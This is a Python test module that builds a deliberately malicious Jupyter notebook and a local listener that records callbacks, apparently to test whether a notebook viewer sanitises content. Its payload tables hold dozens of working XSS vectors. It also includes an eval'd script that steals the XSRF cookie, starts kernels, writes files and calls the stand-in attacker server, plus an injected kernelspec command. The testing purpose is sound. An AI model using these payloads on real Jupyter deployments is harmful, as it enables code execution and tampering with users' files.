"""A notebook by somebody who means harm: it tries whatever might act when it is merely opened, or clicked on."""

import base64
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import TracebackType
from typing import Any

MARKER = "This is the last cell."

# What the attacker's code does wherever it gets to run. NAME says which way in it has found.
ATTACK = """(async () => {
    fetch('STRANGER/NAME/code', { mode: 'no-cors' }).catch(() => {});
    const { baseUrl } = JSON.parse(top.document.getElementById('jupyter-config-data').textContent);
    const headers = { 'X-XSRFToken': /_xsrf=([^;]+)/.exec(top.document.cookie)?.[1] };
    const file = JSON.stringify({ type: 'file', format: 'text', content: 'harm' });
    await fetch(baseUrl + 'api/kernels', { method: 'POST', headers, body: '{}' });
    await fetch(baseUrl + 'api/contents/NAME.txt', { method: 'PUT', headers, body: file });
})()"""

# In these, CODE runs the attack and URL is an address of the stranger's. Whatever says "press" will be clicked on.
LATEX = r"$\href{javascript:CODE}{press}$ $\style{background: url(URL)}{x}$ $\cssId{main}{y}$ $\class{lm-Widget}{z}$"
MERMAID = "flowchart LR\nA[\"press <img src='URL' onerror='CODE'>\"]\nclick A href \"javascript:CODE\""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="CODE"><script>CODE</script><image href="URL"/></svg>'
HTML = {
    "script": "<script>CODE</script>",
    "remote-script": "<script src='URL'></script>",
    "error": '<img src="missing.png" onerror="CODE">',
    "toggle": '<details open ontoggle="CODE"><summary>s</summary></details>',
    "frame": '<iframe src="URL"></iframe>',
    "frame-javascript": '<iframe src="javascript:CODE"></iframe>',
    "frame-text": '<iframe srcdoc="<script>CODE</script><img src=URL>"></iframe>',
    "svg": '<svg onload="CODE"><script>CODE</script><image href="URL"/><use href="URL#a"/></svg>',
    "object": '<object data="URL"></object>',
    "embed": '<embed src="URL">',
    "stylesheet": '<link rel="stylesheet" href="URL">',
    "prefetch": '<link rel="prefetch" href="URL"><link rel="preconnect" href="STRANGER">',
    "style": "<style>@import url(URL); body { background: url(URL) }</style>",
    "style-attribute": '<p style="background: url(URL); list-style: url(URL)">p</p>',
    "background": '<table background="URL"><tr><td background="URL">cell</td></tr></table>',
    "form": '<form action="URL"><button>send</button><input autofocus onfocus="CODE;this.form.submit()"></form>',
    "refresh": '<meta http-equiv="refresh" content="0; url=URL">',
    "base": '<base href="URL/"><img src="relative.png">',
    "picture": '<img src="URL">',
    "picture-set": '<img srcset="URL 1x"><picture><source srcset="URL"><img src="missing.png"></picture>',
    "video": '<video autoplay poster="URL" src="URL"><source src="URL"><track default src="URL"></video>',
    "audio": '<audio autoplay src="URL"></audio>',
    "input": '<input type="image" src="URL">',
    "link": '<a href="javascript:CODE">press</a> <a href="&#106;ava\tscript:CODE">press</a>',
    "link-data": '<a href="data:text/html,<script>CODE</script>">press</a>',
    "command": "<button data-commandlinker-command='terminal:create-new' data-commandlinker-args='{}'>press</button>",
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:CODE">press</maction></math>',
    "mutation": '<noscript><p title="</noscript><img src=missing.png onerror=CODE>"></noscript>',
    "mutation-2": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=a onerror=CODE&gt;'>",
}
MARKDOWN = {
    "markdown-link": "[press](javascript:CODE) [press](vbscript:CODE) <javascript:CODE>",
    "markdown-picture": "![a picture](URL)",
    "markdown-reference": "![a picture][far]\n\n[far]: URL",
    "markdown-attachment": "![a picture](attachment:evil.svg)",
    "markdown-heading": '# A heading <img src="missing.png" onerror="CODE">',
    "markdown-mermaid": f"```mermaid\n{MERMAID}\n```",
    "markdown-latex": LATEX,
}
VEGA = {
    "$schema": "https://vega.github.io/schema/vega/v5.json",
    "width": 20,
    "height": 20,
    "data": [{"name": "far", "url": "URL"}],
    "marks": [{"type": "image", "encode": {"enter": {"url": {"value": "URL"}, "width": {"value": 9}}}}],
    "usermeta": {"embedOptions": {"patch": "URL"}},
}
OTHER = {
    "javascript": {"application/javascript": "CODE"},
    "javascript-text": {"text/javascript": "CODE"},
    "svg-picture": {"image/svg+xml": SVG},
    "mermaid": {"text/vnd.mermaid": MERMAID},
    "latex": {"text/latex": LATEX},
    "vega": {"application/vnd.vega.v5+json": VEGA},
}


class Stranger:
    """A server of the attacker's, which writes down who calls: it sees even a connection without a request."""

    def __enter__(self) -> "Stranger":
        self.called: list[str] = []
        called = self.called

        class Answer(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                called.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        class Door(ThreadingHTTPServer):
            def verify_request(self, *_: Any) -> bool:
                called.append("connected")
                return True

        self.server = Door(("127.0.0.1", 0), Answer)
        self.address = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, at: TracebackType | None) -> None:
        self.server.shutdown()
        self.server.server_close()


def write(path: Path, stranger: str) -> None:
    """Write the notebook, and the picture that its last cell shows.

    Args:
        stranger: the address of the attacker's server.
    """

    def armed(text: Any, name: str) -> Any:
        """Fill in the attack, so that it needs no quotes and no spaces."""
        if isinstance(text, dict):
            return {key: armed(value, name) for key, value in text.items()}
        if isinstance(text, list):
            return [armed(each, name) for each in text]
        if not isinstance(text, str):
            return text
        attack = base64.b64encode(ATTACK.replace("STRANGER", stranger).replace("NAME", name).encode()).decode()
        address = f"{stranger}/{name}"
        return text.replace("CODE", f"eval(atob(`{attack}`))").replace("URL", address).replace("STRANGER", stranger)

    def output(data: dict[str, Any], **metadata: Any) -> dict[str, Any]:
        return {"output_type": "display_data", "data": data, "metadata": metadata}

    outputs = [output(armed(data, name)) for name, data in OTHER.items()]
    texts = {**HTML, **MARKDOWN}
    for name, text in HTML.items():
        outputs.append(output({"text/html": armed(text, f"output-{name}")}))
        outputs.append(output({"text/html": armed(text, f"isolated-{name}")}, **{"text/html": {"isolated": True}}))
    outputs += [output({"text/markdown": armed(text, f"output-md-{name}")}) for name, text in texts.items()]
    shouted = armed(HTML["error"] + HTML["script"] + HTML["picture"], "stream")
    outputs.append({"output_type": "stream", "name": "stderr", "text": shouted})
    outputs.append({"output_type": "error", "ename": shouted, "evalue": shouted, "traceback": [shouted]})
    # The still picture of the first is shown in place of its widget; the other has nothing else to show.
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "evil", "version_major": 2, "version_minor": 0}}
    outputs += [output({**view, "text/html": "<b>a still</b>"}), output({**view, "text/plain": "a widget"})]

    trusted = {"trusted": True, "tags": ["<img src=x>"], "slideshow": None}
    code = {
        "cell_type": "code",
        "source": armed("%%javascript\nCODE", "cell"),
        "metadata": trusted,
        "execution_count": 1,
    }
    cells: list[dict[str, Any]] = [{**code, "outputs": [each]} for each in outputs]
    attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(armed(SVG, "attachment").encode()).decode()}}
    for name, text in texts.items():
        cell = {"cell_type": "markdown", "source": armed(text, f"cell-{name}"), "metadata": trusted}
        cells.append({**cell, "attachments": attachments} if "attachment" in name else cell)
    cells.append({"cell_type": "raw", "source": shouted, "metadata": {**trusted, "raw_mimetype": "text/html"}})
    cells.append({"cell_type": "markdown", "source": f"{MARKER} ![here](here.svg)", "metadata": {}})

    module = armed("CODE; export default { render() {} }", "widget")
    state = {
        "model_name": "AnyModel",
        "model_module": "anywidget",
        "model_module_version": "~0.11.*",
        "state": {
            "_esm": module,
            "_anywidget_id": "evil",
            "_model_name": "AnyModel",
            "_model_module": "anywidget",
            "_model_module_version": "~0.11.*",
            "_view_name": "AnyView",
            "_view_module": "anywidget",
            "_view_module_version": "~0.11.*",
        },
    }
    stored = {"version_major": 2, "version_minor": 0, "state": {"evil": state}}
    metadata = {
        "widgets": {"application/vnd.jupyter.widget-state+json": stored},
        "kernelspec": {"name": "python3", "display_name": shouted, "language": "python", "argv": ["touch", "argv.txt"]},
        "language_info": {"name": "python", "mimetype": shouted, "codemirror_mode": shouted},
        "title": shouted,
        "authors": [shouted],
        "trusted": True,
        "signature": "sha256:0",
    }
    path.write_text(json.dumps({"cells": cells, "metadata": metadata, "nbformat": 4, "nbformat_minor": 4}))
    picture = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>'
    (path.parent / "here.svg").write_text(picture)
